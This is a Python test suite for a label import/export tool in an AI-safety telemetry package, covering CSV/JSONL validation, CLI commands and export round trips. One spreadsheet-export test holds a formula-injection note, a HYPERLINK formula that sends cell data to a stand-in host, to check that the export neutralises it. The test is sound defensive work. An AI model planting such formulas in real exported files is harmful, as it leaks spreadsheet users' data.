"""Labels: import from CSV/JSONL, label by hand, export; bad lines named, nothing lost."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest

from otel_safety import labels
from otel_safety.bootstrap import build_engine
from otel_safety.config import Settings
from otel_safety.exporters.duckdb import DuckDBStore
from otel_safety.mapping import span_id_hex, trace_id_hex

CLI = [sys.executable, "-m", "otel_safety.cli"]
ANSWERS = ["The README describes a web app.", "I'm sorry, but I can't help with that.", "Done."]


def run_cli(*args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("OTEL_")}
    return subprocess.run([*CLI, *args], capture_output=True, text=True, timeout=120, env=env)


@pytest.fixture
def store(tmp_path, span_factory) -> tuple[Path, list[str], list[str]]:
    """A store of three agent runs judged by the real pipeline: (path, traces, root spans)."""
    db = tmp_path / "store.duckdb"
    engine = build_engine(
        Settings.resolve(db_path=str(db)), [DuckDBStore(db, hold=True)], background=False
    )
    traces, roots = [], []
    for answer in ANSWERS:
        spans = span_factory.agent_run(answer=answer, prompt="How do I kill a Python process?")
        engine.process(spans)
        traces.append(trace_id_hex(spans[0].context.trace_id))
        roots.append(next(span_id_hex(s.context.span_id) for s in spans if s.parent is None))
    engine.shutdown()
    return db, traces, roots


def _labels(db: Path) -> list[tuple]:
    with duckdb.connect(str(db), read_only=True) as con:
        return con.execute(
            "SELECT trace_id, span_id, detector, label, source, note FROM labels "
            "ORDER BY trace_id, detector, source"
        ).fetchall()


def test_csv_import_keeps_good_lines_names_bad_ones_and_adds_nothing_twice(store, tmp_path):
    db, (t1, t2, t3), _ = store
    unknown = "f" * 32
    path = tmp_path / "labels.csv"
    path.write_text(
        "trace_id,detector,label,source,note\n"  # line 1
        f"{t1},over_refusal,true,,\n"  # 2 good, default source
        f'{t2},over_refusal,no,review:ana,"multi\nline note"\n'  # 3-4 good, quoted newline
        f"{t3},over_refusal,maybe,,\n"  # 5 bad value
        "\n"  # 6 blank: skipped
        f"{t3},no_such_detector,true,,\n"  # 7 unknown detector
        "xyz,over_refusal,true,,\n"  # 8 bad id
        f"{unknown},over_refusal,true,,\n"  # 9 trace not in the store
        f"{t3},,true,,\n"  # 10 no detector
        f"{t3},under_refusal,1,,,extra\n"  # 11 too many cells
        f"{t3.upper()},under_refusal,FALSE,,\n",  # 12 good (ids any case)
        encoding="utf-8",
    )
    result = labels.import_labels(db, path)
    assert (result.added, result.duplicates) == (3, 0)
    assert [number for number, _ in result.bad] == [5, 7, 8, 9, 10, 11]
    problems = dict(result.bad)
    assert "label must be true or false" in problems[5] and "'maybe'" in problems[5]
    assert "unknown detector 'no_such_detector'" in problems[7]
    assert "trace_id must be 32 hex digits, got 'xyz'" in problems[8]
    assert f"trace {unknown} is not in the store" in problems[9]
    assert "detector is missing" in problems[10]
    assert "6 cells for 5 columns" in problems[11]
    assert _labels(db) == sorted(
        [
            (t1, None, "over_refusal", True, "human", None),
            (t2, None, "over_refusal", False, "review:ana", "multi\nline note"),
            (t3, None, "under_refusal", False, "human", None),
        ]
    )
    again = labels.import_labels(db, path)
    assert (again.added, again.duplicates, len(again.bad)) == (0, 3, 6)
    assert len(_labels(db)) == 3

    # Fixed lines import; the ones already there are not added twice.
    path.write_text(
        path.read_text().replace("maybe", "true").replace(f"{unknown},over", f"{t2},under"),
        encoding="utf-8",
    )
    fixed = labels.import_labels(db, path)
    assert (fixed.added, fixed.duplicates) == (2, 3)


def test_jsonl_import_resolves_span_ids_and_names_bad_lines(store, tmp_path):
    db, (t1, t2, t3), (r1, _, r3) = store
    lines = [
        {"span_id": r1, "detector": "over_refusal", "label": True, "note": "by span"},
        {"trace_id": t2, "detector": "under_refusal", "label": "yes", "source": "synthetic:me"},
        "not json at all",
        ["a", "list"],
        {"trace_id": t3, "detector": "over_refusal", "label": False, "colour": "red"},
        {"span_id": "0" * 16, "detector": "over_refusal", "label": True},
        {"trace_id": t1, "span_id": r3, "detector": "over_refusal", "label": True},
        {"detector": "over_refusal", "label": True},
        {"trace_id": t2, "detector": "under_refusal", "label": "no"},
        {"trace_id": t1, "span_id": "f" * 16, "detector": "over_refusal", "label": True},
        {"trace_id": t3, "detector": "under_refusal", "label": "yes", "source": "synthetic:me"},
    ]
    path = tmp_path / "labels.jsonl"
    path.write_text(
        "\n".join(line if isinstance(line, str) else json.dumps(line) for line in lines) + "\n"
    )
    result = labels.import_labels(db, path, source="team-review")
    assert result.added == 2
    problems = dict(result.bad)
    assert sorted(problems) == [2, 3, 4, 5, 6, 7, 8, 9, 10]
    assert problems[9] == "contradicts line 2 for the same trace and detector"
    assert problems[2] == "contradicted by a later line (neither is imported)"
    assert f"span {'f' * 16} is not in trace {t1} (a typo? its spans:" in problems[10]
    assert problems[3].startswith("not JSON")
    assert problems[4] == "expected a JSON object per line"
    assert "unknown field(s) colour" in problems[5]
    assert f"span {'0' * 16} is not in the store" in problems[6]
    assert f"span {r3} is not in trace {t1}" in problems[7]
    assert "needs a trace_id or a span_id" in problems[8]
    assert _labels(db) == sorted(
        [
            (t1, r1, "over_refusal", True, "team-review", "by span"),
            (t3, None, "under_refusal", True, "synthetic:me", None),
        ]
    )
    assert labels.is_synthetic("synthetic:me") and not labels.is_synthetic("team-review")


def test_a_file_without_the_needed_columns_is_refused_whole(store, tmp_path):
    db, (t1, *_), _ = store
    path = tmp_path / "labels.csv"
    path.write_text(f"trace,detector,verdict\n{t1},over_refusal,true\n")
    with pytest.raises(labels.LabelError, match="line 1: the header needs detector, label"):
        labels.import_labels(db, path)
    with pytest.raises(labels.LabelError, match=r"expected a \.csv or \.jsonl"):
        labels.import_labels(db, path.rename(tmp_path / "labels.txt"))
    assert _labels(db) == []


def test_a_sheet_in_another_encoding_costs_its_bad_lines_and_a_stray_column_the_file(
    store, tmp_path
):
    """One Latin-1 byte had aborted the whole CSV, naming a line before it; a "comment"
    column failed only the rows that filled it in; a JSONL file's BOM cost its first line."""
    db, (t1, t2, t3), _ = store
    sheet = tmp_path / "labels.csv"
    sheet.write_bytes(
        b"trace_id,detector,label,note\n"
        + f"{t1},over_refusal,true,ok\n".encode()
        + f"{t2},over_refusal,true,caf".encode() + b"\xe9\n"
        + f"{t3},over_refusal,false,\n".encode()
    )  # fmt: skip
    result = labels.import_labels(db, sheet)
    assert result.added == 2 and [n for n, _ in result.bad] == [3]
    assert "not UTF-8" in dict(result.bad)[3]
    stray = tmp_path / "stray.csv"
    stray.write_text(f"trace_id,detector,label,comment\n{t1},under_refusal,true,hi\n")
    with pytest.raises(labels.LabelError, match=r"line 1: unknown column\(s\) comment"):
        labels.import_labels(db, stray)
    timed = tmp_path / "timed.csv"
    timed.write_text(
        "trace_id,detector,label,created_at\n"
        f"{t3},under_refusal,true,2025-01-01T00:00:00\n"
        f"{t3},under_refusal,false,2025-01-02T00:00:00\n"
        f"{t3},under_refusal,true,2025-01-02T00:00:00\n"  # the same time as line 3, not 2
    )
    result = labels.import_labels(db, timed)
    assert result.added == 1 and result.bad == [
        (3, "contradicted by a later line (neither is imported)"),
        (4, "contradicts line 3 for the same trace and detector"),
    ]
    ahead = tmp_path / "ahead.csv"
    ahead.write_text(f"trace_id,detector,label,created_at\n{t2},under_refusal,false,2999-01-01\n")
    result = labels.import_labels(db, ahead)
    assert result.added == 0 and "is in the future" in dict(result.bad)[2]
    bom = tmp_path / "bom.jsonl"
    line = {"trace_id": t1, "detector": "under_refusal", "label": True}
    bom.write_bytes(b"\xef\xbb\xbf" + json.dumps(line).encode() + b"\r\n")
    assert labels.import_labels(db, bom).added == 1


def test_unknown_traces_are_kept_only_when_asked(store, tmp_path):
    db, *_ = store
    path = tmp_path / "later.csv"
    path.write_text(f"trace_id,detector,label\n{'a' * 32},over_refusal,true\n")
    assert labels.import_labels(db, path).added == 0
    assert labels.import_labels(db, path, allow_unknown_traces=True).added == 1


def test_a_line_given_twice_is_one_label_and_counted_as_repeated_not_already_there(store, tmp_path):
    db, (t1, _, _), _ = store
    path = tmp_path / "twice.csv"
    path.write_text("trace_id,detector,label\n" + f"{t1},over_refusal,true\n" * 3)
    result = labels.import_labels(db, path)
    assert (result.read, result.added, result.duplicates, result.repeated) == (3, 1, 0, 2)
    assert "1 added to" in result.describe(str(path), str(db))
    assert "0 already there, 2 repeated in the file" in result.describe(str(path), str(db))
    assert len(_labels(db)) == 1


def test_a_trace_stored_but_not_judged_is_said_so_when_labelled(store, tmp_path):
    """A plain HTTP trace is stored but judged by nothing: "not in the store" sent the user
    looking for a typo in an id that was there."""
    db, *_ = store
    plain = "b" * 32
    with duckdb.connect(str(db)) as con:
        con.execute(
            "INSERT INTO spans (trace_id, span_id, name) VALUES (?, ?, 'GET /health')",
            [plain, "c" * 16],
        )
    path = tmp_path / "plain.csv"
    path.write_text(f"trace_id,detector,label\n{plain},over_refusal,true\n")
    [(_, said)] = labels.import_labels(db, path).bad
    assert f"trace {plain} is in the store but was not judged" in said


@pytest.mark.process
def test_label_command_records_a_hand_label_and_the_latest_is_in_force(store, tmp_path):
    db, (t1, t2, _), _ = store
    first = run_cli("label", t1, "over_refusal", "true", "--db", str(db), "--note", "refused")
    assert first.returncode == 0, first.stderr
    assert f"labelled trace {t1}: over_refusal should fire (source human)" in first.stdout
    second = run_cli("label", t1, "over_refusal", "false", "--db", str(db), "--source", "lead")
    assert second.returncode == 0, second.stderr
    with labels.connect(db, read_only=True) as con:
        history = labels.export_labels(con)
        in_force = labels.export_labels(con, effective=True)
    assert [(r["label"], r["source"]) for r in history] == [(True, "human"), (False, "lead")]
    assert [(r["trace_id"], r["label"], r["source"]) for r in in_force] == [(t1, False, "lead")]

    unknown = run_cli("label", "b" * 32, "over_refusal", "true", "--db", str(db))
    assert unknown.returncode == 1 and "is not in the store" in unknown.stderr
    # The flag the message suggests is the one `label` takes (and so does `labels import`).
    [suggested] = [w for w in unknown.stderr.split() if w.startswith("--allow-unknown")]
    for spelling in (suggested, "--allow-unknown-trace"):
        kept = run_cli("label", "b" * 32, "over_refusal", "true", "--db", str(db), spelling)
        assert kept.returncode == 0, kept.stderr
    later = tmp_path / "later.csv"
    later.write_text(f"trace_id,detector,label\n{'c' * 32},over_refusal,true\n")
    imported = run_cli("labels", "import", str(later), "--db", str(db), suggested)
    assert imported.returncode == 0, imported.stdout + imported.stderr
    bad_value = run_cli("label", t2, "over_refusal", "perhaps", "--db", str(db))
    assert bad_value.returncode == 1 and "label must be true or false" in bad_value.stderr
    no_store = run_cli("label", t2, "over_refusal", "true", "--db", str(tmp_path / "x.duckdb"))
    assert no_store.returncode == 1 and "no store at" in no_store.stderr
    assert len(_labels(db)) == 5


@pytest.mark.process
def test_labels_import_command_exit_status_and_export_round_trip(store, tmp_path):
    db, (t1, t2, t3), _ = store
    good = tmp_path / "good.csv"
    good.write_text(
        "trace_id,detector,label,note\n"
        f"{t1},over_refusal,true,a\n{t2},over_refusal,false,b\n{t3},under_refusal,true,c\n"
    )
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"trace_id": "' + t1 + '", "detector": "under_refusal"}\n')
    done = run_cli("labels", "import", str(good), str(bad), "--db", str(db))
    assert done.returncode == 1
    assert f"{good}: 3 label line(s) read: 3 added" in done.stdout
    assert "line 1: label is missing" in done.stdout
    # A reviewer's later label: the export holds the history, two values for t1.
    flipped = run_cli("label", t1, "over_refusal", "false", "--db", str(db), "--note", "ok")
    assert flipped.returncode == 0, flipped.stderr

    exported = tmp_path / "export.jsonl"
    dump = run_cli("labels", "export", "--db", str(db), "--out", str(exported))  # by name
    assert dump.returncode == 0, dump.stderr
    assert exported.read_text().startswith("{")  # JSONL, as the extension says
    crossed = run_cli(
        "labels", "export", "--db", str(db), "--format", "csv", "--out", str(exported)
    )
    assert crossed.returncode == 1 and "name the file .csv" in crossed.stderr
    as_csv = run_cli("labels", "export", "--db", str(db))
    assert as_csv.stdout.splitlines()[0] == "trace_id,span_id,detector,label,source,note,created_at"
    assert len(as_csv.stdout.splitlines()) == 5
    assert {line.split(",")[3] for line in as_csv.stdout.splitlines()[1:]} == {"true", "false"}

    copy = tmp_path / "copy.duckdb"
    shutil.copy(db, copy)
    with duckdb.connect(str(copy)) as con:
        con.execute("DELETE FROM labels")
    reloaded = run_cli("labels", "import", str(exported), "--db", str(copy))
    assert reloaded.returncode == 0, reloaded.stdout
    assert _labels(copy) == _labels(db)
    with labels.connect(copy, read_only=True) as con:
        assert labels.export_labels(con) == [json.loads(line) for line in exported.open()]
        in_force = labels.export_labels(con, effective=True)
    assert {(r["trace_id"], r["detector"], r["label"]) for r in in_force} == {
        (t1, "over_refusal", False),
        (t2, "over_refusal", False),
        (t3, "under_refusal", True),
    }
    again = run_cli("labels", "import", str(exported), "--db", str(db))  # into its own store
    assert again.returncode == 0 and "0 added" in again.stdout, again.stdout


def test_a_history_imported_elsewhere_keeps_the_label_in_force(store, tmp_path):
    """A history true, false, true: the last `true` used to count as already there (the
    first one was), so the copy had `false` in force."""
    db, (t1, _, _), _ = store
    for value in (True, False, True):
        labels.add_label(db, t1, "over_refusal", value)
    with labels.connect(db, read_only=True) as con:
        history = labels.export_labels(con)
    exported = tmp_path / "history.jsonl"
    exported.write_text("".join(json.dumps(record) + "\n" for record in history))
    copy = tmp_path / "copy.duckdb"
    shutil.copy(db, copy)
    with duckdb.connect(str(copy)) as con:
        con.execute("DELETE FROM labels WHERE created_at > (SELECT min(created_at) FROM labels)")
    result = labels.import_labels(copy, exported)
    assert (result.added, result.duplicates) == (2, 1)
    with labels.connect(copy, read_only=True) as con:
        assert [r["label"] for r in labels.export_labels(con, effective=True)] == [True]
        assert labels.export_labels(con) == history


def test_importing_a_file_again_reasserts_what_a_later_label_changed(store, tmp_path):
    db, (t1, _, _), _ = store
    untimed = tmp_path / "untimed.csv"
    untimed.write_text(f"trace_id,detector,label\n{t1},over_refusal,true\n")
    assert labels.import_labels(db, untimed).added == 1
    assert labels.import_labels(db, untimed).added == 0  # already what is in force
    labels.add_label(db, t1, "over_refusal", False)
    assert labels.import_labels(db, untimed).added == 1
    with labels.connect(db, read_only=True) as con:
        assert [r["label"] for r in labels.export_labels(con, effective=True)] == [True]


@pytest.mark.process
def test_a_csv_export_opens_as_text_in_a_spreadsheet_and_imports_back_the_same(store, tmp_path):
    db, (t1, t2, _), _ = store
    notes = ['=HYPERLINK("http://x.example/?"&A1,"click")', "'@SUM(1+1)\rsecond line"]
    labels.add_label(db, t1, "over_refusal", True, note=notes[0], source="@lead")
    labels.add_label(db, t2, "over_refusal", False, note=notes[1])
    exported = tmp_path / "labels.csv"
    done = run_cli("labels", "export", "--db", str(db), "--out", str(exported))
    assert done.returncode == 0, done.stderr
    import csv

    rows = list(csv.DictReader(exported.open(newline="")))
    assert [(r["note"], r["source"]) for r in rows] == [
        ("'" + notes[0], "'@lead"),
        ("'" + notes[1], "human"),
    ]
    copy = tmp_path / "copy.duckdb"
    shutil.copy(db, copy)
    with duckdb.connect(str(copy)) as con:
        con.execute("DELETE FROM labels")
    assert labels.import_labels(copy, exported).added == 2
    assert _labels(copy) == _labels(db)


@pytest.mark.process
@pytest.mark.parametrize("suffix", [".json", ".ndjson"])
def test_an_export_named_as_json_is_written_as_the_jsonl_import_reads(store, tmp_path, suffix):
    db, (t1, *_), _ = store
    labels.add_label(db, t1, "over_refusal", True, note="checked")
    exported = tmp_path / f"labels{suffix}"
    assert run_cli("labels", "export", "--db", str(db), "--out", str(exported)).returncode == 0
    assert json.loads(exported.read_text().splitlines()[0])["note"] == "checked"
    refused = run_cli("labels", "export", "--db", str(db), "--out", str(tmp_path / "x.txt"))
    assert refused.returncode != 0 and ".csv and .jsonl" in refused.stderr


def test_every_line_of_an_import_is_counted_once(store, tmp_path):
    """ "Read" used to leave out lines that were not a label at all: read, added, already
    there, repeated and bad did not add up."""
    db, (t1, t2, _), _ = store
    path = tmp_path / "mixed.jsonl"
    lines = [
        {"trace_id": t1, "detector": "over_refusal", "label": True},
        {"trace_id": t1, "detector": "over_refusal", "label": True},
        {"trace_id": t2, "detector": "over_refusal", "label": "maybe"},
    ]
    path.write_text("\n".join(json.dumps(line) for line in lines) + "\nnot json\n")
    result = labels.import_labels(db, path)
    parts = (result.added, result.duplicates, result.repeated, len(result.bad))
    assert result.read == 4 and parts == (1, 0, 1, 2)
    assert "4 label line(s) read: 1 added" in result.describe(str(path), str(db))
    assert "2 bad" in result.describe(str(path), str(db))


def test_a_note_that_is_not_text_is_refused_not_stored_as_a_repr(store, tmp_path):
    db, (t1, _, _), _ = store
    path = tmp_path / "note.jsonl"
    line = {"trace_id": t1, "detector": "over_refusal", "label": True, "note": {"nested": 1}}
    path.write_text(json.dumps(line) + "\n")
    result = labels.import_labels(db, path)
    assert result.added == 0
    assert "note must be text, got a dict" in result.bad[0][1]


@pytest.mark.process
def test_labels_export_writes_jsonl_to_standard_output(store):
    db, (t1, _, _), _ = store
    assert run_cli("label", t1, "over_refusal", "true", "--db", str(db)).returncode == 0
    done = run_cli("labels", "export", "--db", str(db), "--format", "jsonl")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout.splitlines()[0])["trace_id"] == t1
